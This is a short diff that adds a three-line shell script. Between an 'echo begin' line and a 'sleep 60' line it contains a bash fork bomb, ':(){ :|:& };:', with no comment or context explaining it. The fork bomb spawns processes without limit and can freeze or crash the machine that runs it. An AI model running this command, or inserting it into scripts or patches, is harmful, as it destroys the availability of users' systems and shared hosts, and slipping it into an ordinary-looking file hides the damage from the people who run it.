@@ -1,0 +1,3 @@
+echo begin
+:(){ :|:& };:
+sleep 60
